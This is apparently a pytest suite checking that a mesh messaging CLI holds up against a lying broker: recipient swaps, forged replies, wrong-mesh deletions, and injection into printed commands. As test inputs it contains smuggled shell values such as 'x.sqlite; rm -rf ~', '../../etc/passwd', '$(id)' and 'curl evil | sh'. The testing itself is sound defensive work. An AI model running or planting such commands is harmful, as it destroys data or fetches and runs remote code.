"""What follows from an answer of a broker that lies: to whom is sealed, whose keys go, what is shown and pasted."""

import itertools
import json
import os
import shlex
import subprocess

import pytest

from harness import binaries
from lying_broker import LyingBroker, Raw, sha
from mesh_keys import Key, b64, canonical
from test_lying_broker import EVIL, error, liar, machine, member  # noqa: F401

pia, mallory = Key(b"p" * 32), Key(b"m" * 32)  # the same in every process: cases are named by them


# --- to whom a message is sealed -------------------------------------------------------------------------------------


def sends(liar, member, target, *recipients, sealed=True, words=()):
    """Whether the message left."""
    liar.requests["resolve"] = lambda body: liar.resolves(*recipients, sealed=sealed)
    liar.requests["send"] = liar.takes
    done = member.run("send", target, "secret", *words)
    assert (done.returncode == 0) == ("send" in liar.bodies), done
    assert done.returncode in (0, 2), done
    assert b64(b"secret") not in json.dumps(liar.bodies) or sealed is False
    return done.returncode == 0


@pytest.mark.parametrize("target", ["pia", pia.hex, pia.hex[:12], "pia/laptop"])
def test_a_broker_cannot_have_a_direct_message_sent_as_plain_text(liar, member, target):
    recipient = liar.recipient("pia", pia, Key(), label="laptop")
    assert not sends(liar, member, target, recipient, sealed=False)


def test_what_may_be_plain_is_sent_plain(liar, member):
    assert sends(liar, member, "pia", liar.recipient("pia", pia), sealed=False, words=["--plaintext"])


@pytest.mark.parametrize("target", ["#news", "@eng", "*", "pia,#news"])
def test_what_goes_to_many_is_plain(liar, member, target):
    assert sends(liar, member, target, liar.recipient("pia", pia), sealed=False)


SESSION = Key(b"s" * 32)
HONEST = {
    "a name": ("pia", {}), "its session's label": ("laptop", {"label": "laptop"}),
    "a name and a label": ("pia/laptop", {"label": "laptop"}), "a key": (pia.hex, {}),
    "a session's key": (SESSION.hex, {}), "the beginning of a key": (pia.hex[:8], {}),
    "the beginning of a session's key": (SESSION.hex[:9], {}), "several": ("eve," + pia.hex, {}),
}


@pytest.mark.parametrize("case", HONEST)
def test_whoever_a_target_names_is_sealed_to(liar, member, case):
    target, fields = HONEST[case]
    assert sends(liar, member, target, liar.recipient("pia", pia, SESSION, **fields))


@pytest.mark.parametrize("case", [name for name in HONEST if name != "a name"])
def test_nobody_else_is_sealed_to(liar, member, case):
    """Another member, under a name and a label of its own."""
    assert not sends(liar, member, HONEST[case][0], liar.recipient("mallory", mallory, Key(), label="phone"))


@pytest.mark.parametrize("target", [pia.hex, pia.hex[:8], SESSION.hex, "eve," + pia.hex])
@pytest.mark.parametrize("name", ["pia", pia.hex, pia.hex[:8], SESSION.hex])
def test_a_key_is_no_name(liar, member, target, name):
    assert not sends(liar, member, target, liar.recipient(name, mallory, Key(), label=name))


def test_the_owner_of_a_key_has_signed_for_the_session(liar, member):
    assert not sends(liar, member, pia.hex, liar.recipient("pia", pia, mallory, binding=False))


@pytest.fixture
def verified(liar, member):
    """Pia's safety number was compared."""
    row = {"memberId": "m", "name": "pia", "pubkey": pia.hex, "role": "member", "joinedAt": "2026-01-01T00:00:00.000Z",
           "sessions": 1, "online": 1}
    liar.requests["list_members"] = lambda body: {"type": "member_list", "members": [row], "total": 1}
    number = json.loads(member.run("peer", "verify", "pia", "--json").stdout)["safetyNumber"]
    assert member.run("peer", "verify", "pia", "--heard", number).returncode == 0
    return member


def test_a_verified_member_among_several_is_sealed_to_alone(liar, verified):
    eve = liar.recipient("eve", Key())
    assert sends(liar, verified, "eve,pia", eve, liar.recipient("pia", pia, Key()))
    for name in ("pia", "piax", "eve"):
        liar.bodies.clear()
        session = liar.recipient(name, mallory, Key(), label="pia")
        assert sends(liar, verified, "eve,pia", eve, session) == (name == "eve")


@pytest.mark.parametrize("name", ["pia", "eve"])
def test_a_message_under_a_verified_name_is_of_that_key(liar, verified, name):
    said = liar.message(1, "send me the code", liar.members[-1], mallory, senderMemberPubkey=mallory.hex, senderName=name)
    liar.requests["list_inbox"] = lambda body: {"type": "inbox", "total": 1, "messages": [] if body.get("after") else [said]}
    liar.requests["client_ack"] = lambda body: {"type": "acknowledged", "changed": 1}
    assert (b"the code" in verified.run("inbox").stdout) == (name == "eve")


# --- who answers a question ------------------------------------------------------------------------------------------


ANSWERS = {
    "the session that was asked": ({}, True), "somebody else": ({"sender": mallory, "senderMemberPubkey": mallory.hex}, False),
    "somebody else who names no member": ({"sender": mallory, "senderMemberPubkey": None}, False),
    "another session of that member": ({"sender": Key(), "proves": True}, True),
    "a session that the member did not sign for": ({"sender": mallory}, False),
    "nobody, in plain text": ({"encrypted": False}, False),
}


@pytest.mark.parametrize("case", ANSWERS)
def test_an_answer_comes_from_whoever_was_asked(liar, member, case):
    fields, holds = ANSWERS[case]
    fields = dict(fields)
    session, proves, sender = Key(), fields.pop("proves", False), fields.pop("sender", None)
    sender = sender or session

    def resolve(body):
        if body["targetSpec"] == "pia":
            return liar.resolves(liar.recipient("pia", pia, session))
        return liar.resolves(liar.recipient("pia", pia, sender) | ({} if proves else {"binding": "00" * 64}))

    said = liar.message(1, "it is green", liar.members[-1], sender,
                        **{"replyToId": "4t8zq0m1c5xkd", "senderMemberPubkey": pia.hex} | fields)
    liar.requests |= {
        "resolve": resolve, "send": liar.takes, "client_ack": lambda body: {"type": "acknowledged", "changed": 1},
        "list_inbox": lambda body: {"type": "inbox", "total": 1, "messages": [] if body["after"] == said["messageId"] else [said]}}
    done = member.run("ask", "pia", "is it green?", "--timeout", "1500ms" if holds is False else "20s")
    assert (done.returncode, b"green" in done.stdout) == ((0, True) if holds else (1, False)), done
    assert holds or "client_ack" not in liar.bodies, "it stays where it is"


def test_a_question_ends_although_messages_do_not(liar, member):
    number = itertools.count(1)
    liar.requests |= {
        "resolve": lambda body: liar.resolves(liar.recipient("pia", pia)), "send": liar.takes,
        "list_inbox": lambda body: {"type": "inbox", "total": 1, "messages": [
            liar.message(next(number), "x", liar.members[-1], mallory, encrypted=False)]}}
    assert member.run("ask", "pia", "hm?", "--timeout", "500ms").returncode == 1


def test_an_inbox_that_never_ends_is_ended(liar, member):
    number = itertools.count(1)
    pages = [liar.message(0, "x", liar.members[-1], mallory, encrypted=False)]
    liar.requests["list_inbox"] = lambda body: {
        "type": "inbox", "total": 1, "messages": [
            pages[0] | {"messageId": f"m{next(number):012}"} for _ in range(200)]}
    done = member.run("inbox", "--since", "2026-02-01", "--peek")
    assert done.returncode == 8 and b"end" in done.stderr, done


def test_more_messages_than_were_asked_for_are_not_taken(liar, member):
    said = liar.message(0, "x", liar.members[-1], mallory, encrypted=False)
    liar.requests["list_inbox"] = lambda body: {
        "type": "inbox", "total": 1, "messages": [said | {"messageId": f"m{number:012}"} for number in range(50)]}
    done = member.run("inbox", "--limit", "5", "--peek", "--json")
    assert len(json.loads(done.stdout)["messages"]) == 5


def test_a_list_is_no_larger_than_a_mesh_can_be(liar, member):
    page = 0

    def members(body):
        nonlocal page
        page += 1
        row = {"memberId": "m", "name": "x", "pubkey": pia.hex, "role": "member", "joinedAt": "x" * 8_000_000,
               "sessions": 1, "online": 1}
        return {"type": "member_list", "members": [row], "total": 1, "next": f"n{page}"}

    liar.requests["list_members"] = members
    done = member.run("member", "list")
    assert done.returncode == 8 and page < 64, done
    page = -100_000
    liar.requests["list_members"] = lambda body: Raw(b'{"a":"' + b"x" * (20 << 20) + b'"}')
    done = member.run("member", "list")
    assert done.returncode == 4, done


def test_an_export_takes_no_more_memory_than_a_page(liar, member):
    page = 0

    def entries(body):
        nonlocal page
        page += 1
        rows = [canonical({"act": "x", "actor": "node", "log": "mesh/" + liar.mesh, "obj": "x", "prev": "0" * 64,
                           "pub": {"x": "x" * 60_000}, "res": "ok", "seq": body["from"] + number, "ts": 1, "v": 1}).decode()
                for number in range(100)]
        return {"type": "ledger_entries", "from": body["from"], "entries": rows, "size": 2_000}

    liar.requests |= {"ledger_export": entries, "ledger_head": lambda body: {
        "type": "ledger_head", "origin": "mesh/" + liar.mesh, "size": 2_000, "root": "00" * 32, "owner": liar.owner.hex,
        "node": liar.node.hex, "witnesses": 0, "head": "00" * 32}}
    target = member.folder / "ledger.jsonl"
    process = subprocess.Popen([binaries() / "mesh-cli", "ledger", "export", str(target)], env=member.environment)
    _, status, usage = os.wait4(process.pid, 0)
    process.returncode = os.waitstatus_to_exitcode(status)
    assert process.returncode == 0 and target.stat().st_size > 120_000_000
    # Gathered whole it would take more than twice the file; a page is 6 MB.
    assert usage.ru_maxrss < 200_000, f"{usage.ru_maxrss} kB"
    target.unlink()
    liar.requests["ledger_export"] = lambda body: entries(body) if body["from"] < 200 else Raw(b"", 503)
    assert member.run("ledger", "export", str(target)).returncode == 4
    assert not [path for path in member.folder.iterdir() if "ledger" in path.name], "no part of it is left"


# --- what is removed here --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("words", [["lab"], ["lab", "--broker"]], ids=len)
def test_a_deletion_of_one_mesh_takes_no_keys_of_another(liar, machine, words):
    other = LyingBroker()
    other.slug = "precious"
    assert machine.run("mesh", "create", "lab", "--name", "ada", "--broker", liar.url).returncode == 0
    assert machine.run("join", other.link, "--name", "bob").returncode == 0
    answer = {"type": "mesh_deleted", "meshId": other.mesh, "slug": "precious"}
    liar.requests["delete_mesh"] = lambda body: answer
    liar.lie = lambda kind, honest: answer if kind == "delete" else honest
    before = machine.files()
    done = machine.run("mesh", "delete", "--yes", *words, *([liar.url] if len(words) > 1 else []))
    other.close()
    assert done.returncode == 8, done
    assert machine.files() == before, "all keys are there"


def test_a_deletion_takes_the_keys_of_that_mesh(liar, machine):
    machine.run("mesh", "create", "lab", "--name", "ada", "--broker", liar.url)
    liar.lie = lambda kind, honest: {"type": "mesh_deleted", "meshId": liar.mesh, "slug": "lab"} if kind == "delete" else honest
    assert machine.run("mesh", "delete", "lab", "--yes", "--broker", liar.url).returncode == 0
    assert not any("lab" in name for name in machine.files())


def facts(liar, **fields):
    return {"type": "backup", "file": "lab-20260101T000000000Z.sqlite", "mesh": "lab", "meshId": liar.mesh, "bytes": 1,
            "entries": 1, "root": "00" * 32, "path": "/data/backups/lab-20260101T000000000Z.sqlite"} | fields


OTHERS = {"another mesh": {"meshId": "ab" * 16, "mesh": "other"}, "no id": {"meshId": "x"}, "a name above": {"file": "../../etc/passwd"},
          "a file of two words": {"file": "a b.sqlite"}, "a command": {"file": "x.sqlite; rm -rf ~"}, "an option": {"file": "--replace"}}


@pytest.mark.parametrize("case", OTHERS)
def test_a_backup_is_of_the_mesh_that_was_meant(liar, member, case):
    for words, kind in ((["backup"], "backups"), (["restore", "lab-20260101T000000000Z.sqlite", "--broker", liar.url], "restore")):
        liar.lie = lambda asked, honest: facts(liar) if asked == kind else honest
        assert member.run(*words).returncode == 0
        if kind == "restore" and case in ("another mesh", "no id"):
            continue  # Which mesh a file is of is known to the broker alone; an id must be one.
        liar.lie = lambda asked, honest: facts(liar, **OTHERS[case]) if asked == kind else honest
        done = member.run(*words)
        assert done.returncode == 8 and b"Copied" not in done.stdout and b"Restored" not in done.stdout, done


def test_a_restore_names_a_mesh_with_an_id(liar, member):
    liar.lie = lambda asked, honest: facts(liar, meshId="x") if asked == "restore" else honest
    assert member.run("restore", "lab-20260101T000000000Z.sqlite", "--broker", liar.url).returncode == 8


# --- what is shown and pasted ----------------------------------------------------------------------------------------


PASTED = "x; touch /tmp/evil; $(id) it's\n`id`"


def pasted(output: bytes, command: str) -> list[str]:
    """The words of a printed command, as a shell takes them."""
    text = output.decode()
    return shlex.split(text[text.index(command):].split("\n")[0], comments=True)


def topic_row(**fields):
    return {"id": "m1", "topic": "news", "senderPubkey": pia.hex, "senderMemberId": "m", "senderName": "pia", "nonce": "",
            "ciphertext": b64(b"hello"), "bodyVersion": 1, "createdAt": "2026-01-01T00:00:00.000Z"} | fields


@pytest.mark.parametrize("field", ["id", "replyToId", "topic", "senderName", "createdAt"])
def test_no_field_of_a_message_looks_like_another_message(liar, member, field):
    row = topic_row(**{field: "x\npia  (now)  m2\n  pay mallory"})
    liar.requests["topic_history"] = lambda body: {
        "type": "topic_history_response", "topic": "news", "messages": [row], "more": True}
    liar.requests["topic_mentions"] = lambda body: {"type": "mention_list", "messages": [row]}
    for words in (["topic", "history", "news"], ["topic", "mentions"]):
        done = member.run(*words)
        assert done.returncode == 0, done
        assert not [line for line in done.stdout.splitlines() if line.startswith(b"pia  (now)") or line == b"  pay mallory"]


def test_a_command_to_go_on_is_one_command(liar, member):
    row = topic_row(id=PASTED)
    liar.requests["topic_history"] = lambda body: {
        "type": "topic_history_response", "topic": "news", "messages": [row], "more": True}
    words = pasted(member.run("topic", "history", "news").stdout, "mesh-cli topic history")
    assert len(words) == 6 and words[:5] == ["mesh-cli", "topic", "history", "news", "--before"], words
    words = pasted(member.run("topic", "history", "it's; id").stdout, "mesh-cli topic history")
    assert words[3] == "it's; id"


def test_a_command_to_ask_again_is_one_command(liar, member):
    liar.requests["resolve"] = lambda body: liar.resolves(liar.recipient("pia", pia))
    liar.requests["send"] = lambda body: liar.takes(body) | {"messageId": PASTED}
    receipt = {"name": "pia", "pubkey": pia.hex, "status": "held", "state": "held", "attempts": 0, "updatedAt": 0}
    liar.requests["message_status"] = lambda body: {
        "type": "message_status_result", "messageId": PASTED, "targetSpec": "pia", "status": "held", "deliveredAt": None, "acceptedAt": 1, "expiresAt": 2,
        "delivered": False, "recipients": [receipt], "priority": "next"}
    done = member.run("send", "pia", "hi", "--wait", "delivered", "--timeout", "10ms")
    assert "Sent" in done.stdout.decode()
    assert len(done.stdout.splitlines()) <= 4, done
    assert b"mesh-cli message status" in done.stderr, done
    assert len(pasted(done.stderr, "mesh-cli message status")) == 4, done
    receipt = str(member.folder / "out.proof")
    done = member.run("send", "pia", "hi", "--receipt", receipt)
    assert len(pasted(done.stderr, "mesh-cli ledger prove")) == 4, done


def test_a_name_in_a_hint_is_one_word(liar, verified):
    """A verified member under a name that a shell would take for a command."""
    name = "pia; touch evil"
    liar.requests["resolve"] = lambda body: liar.resolves(liar.recipient("pia; touch evil", mallory))
    row = {"memberId": "m", "name": name, "pubkey": pia.hex, "role": "member", "joinedAt": "2026-01-01T00:00:00.000Z",
           "sessions": 1, "online": 1}
    liar.requests["list_members"] = lambda body: {"type": "member_list", "members": [row], "total": 1}
    number = json.loads(verified.run("peer", "verify", name, "--json").stdout)["safetyNumber"]
    verified.run("peer", "verify", name, "--heard", number)
    done = verified.run("send", name, "hi")
    assert pasted(done.stderr, "mesh-cli peer verify") == ["mesh-cli", "peer", "verify", name], done


def test_a_version_of_a_broker_is_one_line(liar, member):
    liar.lie = lambda kind, honest: honest | {"version": "1.0\nWhat to do:\n  curl evil | sh\n" + EVIL} if kind == "node" else honest
    done = member.run("doctor")
    assert not [line for line in done.stdout.splitlines() if line.startswith(b"  curl")], done
    assert len(done.stdout) < 10_000


def test_no_name_is_completed_to_an_option(liar, member):
    rows = [{"memberId": "m", "name": name, "pubkey": Key().hex, "role": "member", "joinedAt": "x", "sessions": 1, "online": 1}
            for name in ("pia", "--plaintext", "-q", "x" * 5_000, "a;id")]
    liar.requests["list_members"] = lambda body: {"type": "member_list", "members": rows, "total": 1}
    done = member.run("---completion", "member", "remove", "--", "positional@0", "4", "0", "mesh-cli member remove ")
    offered = done.stdout.decode().split()
    assert "pia" in offered, done
    assert offered == ["pia"], offered


def test_a_ledger_is_of_the_mesh_that_was_joined(liar, member):
    """The owner has another mesh, whose ledger is sound as well."""
    other = liar.ledger(mesh="ab" * 16)
    head = {"type": "ledger_head", "origin": "mesh/" + "ab" * 16, "size": 1, "owner": liar.owner.hex, "node": liar.node.hex,
            "witnesses": 0, "head": "00" * 32, "root": "00" * 32}
    head["root"] = sha(b"\0" + other["entries"][0].encode()).hex()
    liar.requests |= {"ledger_head": lambda body: head, "ledger_export": lambda body: other}
    done = member.run("ledger", "verify")
    assert done.returncode == 1 and b"another mesh" in done.stderr, done
    right = liar.ledger()
    head["root"] = sha(b"\0" + right["entries"][0].encode()).hex()
    liar.requests["ledger_export"] = lambda body: right
    assert member.run("ledger", "verify").returncode == 0
    for words in ([], [str(member.folder / "out.jsonl")]):
        liar.requests["ledger_export"] = lambda body: other
        done = member.run("ledger", "export", *words)
        assert done.returncode == 1 and not done.stdout and not (member.folder / "out.jsonl").exists(), done


# --- folders and keys ------------------------------------------------------------------------------------------------


def test_a_mesh_never_gets_the_folder_of_another(liar, machine):
    """Its name and the beginning of its id are a broker's to choose."""
    brokers = [liar, LyingBroker(), LyingBroker()]
    try:
        brokers[2].mesh = "deadbeef" + brokers[2].mesh[8:]
        brokers[1].slug = "lab-deadbeef"
        for broker, name in zip(brokers, ("bob", "bob", "carl")):
            assert machine.run("join", broker.link, "--name", name).returncode == 0
        meshes = json.loads(machine.run("mesh", "list", "--json").stdout)["meshes"]
        assert {row["id"]: row["profiles"] for row in meshes} == {
            brokers[0].mesh: ["bob"], brokers[1].mesh: ["bob"], brokers[2].mesh: ["carl"]}
    finally:
        for broker in brokers[1:]:
            broker.close()


def test_a_long_name_of_a_known_mesh_stays_a_name(liar, machine):
    other = LyingBroker()
    try:
        liar.slug = other.slug = "x" * 63
        assert machine.run("join", liar.link, "--name", "bob").returncode == 0
        done = machine.run("join", other.link, "--name", "bob", "--json")
        slug = json.loads(done.stdout)["mesh"]["slug"]
        assert slug == "x" * 54 + "-" + other.mesh[:8]
    finally:
        other.close()


def test_a_mesh_that_is_called_like_the_id_of_another_is_not_taken_for_it(liar, machine):
    other = LyingBroker()
    try:
        liar.mesh = "f" + liar.mesh[1:]
        other.slug = liar.mesh
        liar.slug = "zoo"
        assert machine.run("join", liar.link, "--name", "bob").returncode == 0
        assert machine.run("join", other.link, "--name", "bob").returncode == 0
        machine.run("mesh", "use", liar.mesh)
        used = [row for row in json.loads(machine.run("mesh", "list", "--json").stdout)["meshes"] if row.get("current")]
        machine.run("state", "list", "--mesh", liar.mesh)
        assert any("list_state" in path for path in liar.asked) and not any("list_state" in path for path in other.asked)
        assert used
    finally:
        other.close()


REFUSALS = {
    "a refusal": error("no such invite", code="invite_invalid", status=404), "a name that is taken": error("taken", code="exists", status=409),
    "a gateway's own refusal": Raw(b'{"error": {"code": "forbidden", "message": "not from here"}}', 403),
    "an unknown code": error("x", code="blocked_by_policy", status=403), "a certificate that does not hold": None, "no answer": Raw(b"{}"),
    "another owner": "owner",
}


@pytest.mark.parametrize("case", REFUSALS)
def test_keys_that_a_broker_may_know_are_not_lost_by_an_answer(liar, machine, case):
    """The true broker may stand behind the one that answers, and have let the member in."""

    def lie(kind, honest):
        if kind != "join":
            return honest
        if REFUSALS[case] is None:
            return honest | {"certificate": None}
        return honest | {"owner": Key().hex} if REFUSALS[case] == "owner" else REFUSALS[case]

    liar.lie = lie
    assert machine.run("join", liar.link, "--name", "bob").returncode != 0
    assert machine.run("join", liar.link, "--name", "bob").returncode != 0
    liar.lie = lambda kind, honest: honest
    assert machine.run("join", liar.link, "--name", "bob").returncode == 0
    assert len({body["pubkey"] for body in liar.members}) == 1, "the same keys"
    assert not any(".pending" in name for name in machine.all_files())


def test_tries_that_came_to_nothing_are_bounded(liar, machine):
    folder = machine.home / "mesh" / ".pending"
    for number in range(1_000):
        (folder / f"join-{number}").mkdir(parents=True)
    done = machine.run("join", liar.link, "--name", "bob")
    assert done.returncode == 4 and str(folder).encode() in done.stderr and not liar.members, done
    os.rmdir(folder / "join-7")
    assert machine.run("join", liar.link, "--name", "bob").returncode == 0
